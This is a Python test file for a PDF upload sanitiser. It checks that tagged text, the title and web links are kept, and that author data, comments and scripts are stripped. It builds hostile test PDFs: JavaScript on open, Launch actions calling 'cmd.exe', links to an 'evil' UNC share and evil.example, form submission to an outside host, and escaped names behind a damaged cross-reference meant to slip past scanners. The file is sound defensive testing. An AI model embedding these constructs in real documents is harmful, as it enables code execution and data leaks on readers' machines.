"""PDFs are written anew by qpdf: text and tags stay, and nothing that acts by itself or reaches elsewhere."""

import io
from pathlib import Path

import pikepdf
import pytest
import typst
from pikepdf import Array, Dictionary, Name, String
from pypdf import PdfReader

from publishing.uploads.rebuilt_file import Unusable
from publishing.uploads.worker import rebuilt
from tests.publishing import files

TAGGED = """
#set document(title: "Places", author: "CANARY-AUTHOR", keywords: ("CANARY-KEYWORD",))
#set text(lang: "en")
= Places by region
#link("https://example.org")[Our page] and #link(<results>)[the results]
#figure(table(columns: 2, table.header[Region][Homes], [Wales], [90]), caption: [Homes], alt: "A table") <results>
#image("photograph.jpg", alt: "A kitchen", width: 2cm)
"""


@pytest.fixture(scope="module")
def tagged(tmp_path_factory) -> bytes:
    """What our own typesetting makes: PDF/UA-1, tagged, with links, a table and a photograph."""
    folder: Path = tmp_path_factory.mktemp("pdf")
    (folder / "photograph.jpg").write_bytes(files.photograph())
    (folder / "a.typ").write_text(TAGGED)
    return typst.compile(folder / "a.typ", pdf_standards=["ua-1"])


def changed(raw: bytes, change) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(raw)) as pdf:
        change(pdf)
        pdf.save(out)
    return out.getvalue()


def tags_of(pdf) -> list[str]:
    found, waiting = [], [pdf.Root.StructTreeRoot]
    while waiting:
        node = waiting.pop()
        if isinstance(node, Array):
            waiting += list(node)
        elif isinstance(node, Dictionary):
            found += [str(node.S)] if "/S" in node else []
            waiting += [node.K] if "/K" in node else []
    return sorted(found)


def content_of(stream) -> bytes:
    return stream.read_raw_bytes() if stream.get("/Filter") == "/DCTDecode" else stream.read_bytes()


def test_text_tags_links_and_title_stay_and_authors_go(tagged):
    kept = rebuilt(tagged)
    with pikepdf.open(io.BytesIO(tagged)) as before, pikepdf.open(io.BytesIO(kept.raw)) as after:
        assert tags_of(after) == tags_of(before)
        assert "/Figure" in tags_of(after)
        assert (str(after.Root.Lang), bool(after.Root.MarkInfo.Marked)) == ("en", True)
        assert b"pdfuaid:part" in after.Root.Metadata.read_bytes()
        assert {name: str(value) for name, value in after.docinfo.items()} == {"/Title": "Places"}
        plain = b"".join(content_of(each) for each in after.objects if isinstance(each, pikepdf.Stream))
        links = [str(each.A.URI) for each in after.pages[0].Annots if "/URI" in each.get("/A", {})]
    assert links == ["https://example.org"]
    assert b"CANARY" not in plain + kept.raw
    assert b"Exif" not in plain
    assert "Places by region" in PdfReader(io.BytesIO(kept.raw)).pages[0].extract_text()
    assert kept.taken_out == ("the author's name and other properties",)
    assert rebuilt(kept.raw).raw == kept.raw, "made anew it stays what it is"


def on_page(**annotation):
    """An annotation of a page; an entry of None is missing."""
    entries = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": Array([0, 0, 9, 9])} | annotation

    def change(pdf):
        made = Dictionary(**{name: value for name, value in entries.items() if value is not None})
        pdf.pages[0].Annots = Array([pdf.make_indirect(made)])

    return change


def action(kind: str, **more):
    return Dictionary(S=Name(f"/{kind}"), **more)


def on_root(**entries):
    def change(pdf):
        for name, value in entries.items():
            pdf.Root[f"/{name}"] = value

    return change


def script(where="OpenAction"):
    return on_root(**{where: action("JavaScript", JS=String("app.alert(1)"))})


def scripted_form_field(pdf):
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=action("JavaScript", JS=String("x"))))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))


def behind_another(pdf):
    harmless = action("GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([action("Launch", F=String("cmd"))]))
    on_page(A=harmless)(pdf)


def elsewhere(pdf):
    stream = pdf.make_stream(b"")
    stream["/F"] = String("https://evil.example/")
    pdf.Root.Extra = stream


PROGRAM, OTHER = "holds a program", "does something that we do not take"
HOSTILE = {
    "a script when it opens": (script(), PROGRAM),
    "a script by name": (
        on_root(
            Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action("JavaScript", JS=String("x"))])))
        ),
        PROGRAM,
    ),
    "a launch": (on_page(A=action("Launch", F=String("cmd.exe"))), OTHER),
    "a launch behind a harmless action": (behind_another, OTHER),
    "another file": (on_page(A=action("GoToR", F=String("\\\\evil\\a.pdf"))), OTHER),
    "an enclosed file": (on_page(A=action("GoToE", T=Dictionary())), OTHER),
    "a form that sends": (on_page(A=action("SubmitForm", F=String("https://evil.example"))), OTHER),
    "data from elsewhere": (on_page(A=action("ImportData", F=String("a"))), OTHER),
    "an action where no rectangle is": (on_page(Subtype=Name.Link, Rect=None, A=action("Teleport")), OTHER),
    "an action in a stream": (lambda pdf: pdf.Root.__setitem__("/OpenAction", pdf.make_stream(b"", S=Name.Foo)), OTHER),
    "an action of years to come": (on_page(A=action("Teleport")), OTHER),
    "a command of the reader": (on_page(A=action("Named", N=Name("/Print"))), OTHER),
    "a link to a share": (on_page(A=action("URI", URI=String("file://evil/a"))), "links to “file://evil/a"),
    "a link that runs": (on_page(A=action("URI", URI=String("javascript:x"))), "links to “javascript:x"),
    "a film": (on_page(Subtype=Name.Screen), "plays or opens"),
    "an enclosed file on a page": (on_page(Subtype=Name.FileAttachment), "plays or opens"),
    "a black bar over text": (on_page(Subtype=Name.Redact), "plays or opens"),
    "a portfolio": (on_root(Collection=Dictionary()), "encloses another file"),
    "XFA": (on_root(AcroForm=Dictionary(XFA=Array([]), Fields=Array([]))), "XFA"),
    "a stream elsewhere": (elsewhere, "fetches a part"),
}


@pytest.mark.parametrize(("change", "said"), HOSTILE.values(), ids=HOSTILE)
def test_a_pdf_that_may_do_harm_is_refused(change, said):
    with pytest.raises(Unusable, match=said):
        rebuilt(changed(files.pdf(), change))


def test_a_script_behind_a_damaged_cross_reference_is_found():
    raw = changed(files.pdf(), script())
    damaged = raw[: raw.rindex(b"startxref")] + b"startxref\n7\n%%EOF\n"
    with pytest.raises(Unusable, match=PROGRAM):
        rebuilt(damaged)
    escaped = raw.replace(b"/JavaScript", b"/#4aavaScript").replace(b"/JS ", b"/#4a#53 ")
    with pytest.raises(Unusable, match=PROGRAM):
        rebuilt(escaped[: escaped.rindex(b"startxref")] + b"startxref\n7\n%%EOF\n")


def test_a_script_of_an_earlier_version_is_left_behind():
    """A later version of the same object, put behind the first as editors do it, without the script."""
    first = changed(files.pdf(), lambda pdf: pdf.Root.__setitem__("/Extra", pdf.make_indirect(action("JavaScript"))))
    with pikepdf.open(io.BytesIO(first)) as pdf:
        number, size = pdf.Root.Extra.objgen[0], int(pdf.trailer.Size)
        root = pdf.Root.objgen[0]
    at = len(first)
    update = b"%d 0 obj\n<< >>\nendobj\n" % number
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, at)
    trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %s >>\n" % (
        size,
        root,
        first.split(b"startxref\n")[-1].split()[0],
    )
    kept = rebuilt(first + update + table + trailer + b"startxref\n%d\n%%%%EOF\n" % (at + len(update)))
    assert b"JavaScript" not in kept.raw


def test_what_a_reader_does_by_itself_is_taken_out():
    kept = rebuilt(changed(files.pdf(), scripted_form_field))
    with pikepdf.open(io.BytesIO(kept.raw)) as pdf:
        assert set(pdf.Root.AcroForm.Fields[0].keys()) == {"/FT", "/T"}
        assert not [each for each in pdf.objects if isinstance(each, Dictionary) and "/JS" in each]


def test_comments_and_their_authors_are_taken_out():
    note = on_page(Subtype=Name.Text, T=String("CANARY-WHO"), Contents=String("CANARY-WHAT"))
    kept = rebuilt(changed(files.pdf(), note))
    with pikepdf.open(io.BytesIO(kept.raw)) as pdf:
        assert len(pdf.pages[0].Annots) == 0
    assert kept.taken_out == ("comments",)
    mark = rebuilt(changed(files.pdf(), on_page(Subtype=Name.Highlight, T=String("CANARY-WHO"))))
    with pikepdf.open(io.BytesIO(mark.raw)) as pdf:
        assert "/T" not in pdf.pages[0].Annots[0]


@pytest.mark.parametrize(
    ("raw", "said"),
    [
        (files.pdf()[:-20], "cut short"),
        (files.pdf() + files.package({"x": "y" * 2000}), "behind its end"),
        (b"%PDF-1.7 nothing %%EOF", "damaged|no page"),
        (files.pdf(lambda writer: writer.encrypt("secret")), "password"),
        (files.pdf(lambda writer: writer.encrypt("", "owner")), "forbids copying"),
        (files.pdf(lambda writer: writer.add_attachment("x.exe", b"x")), "another file"),
    ],
)
def test_other_pdfs_are_refused(raw, said):
    with pytest.raises(Unusable, match=said):
        rebuilt(raw)
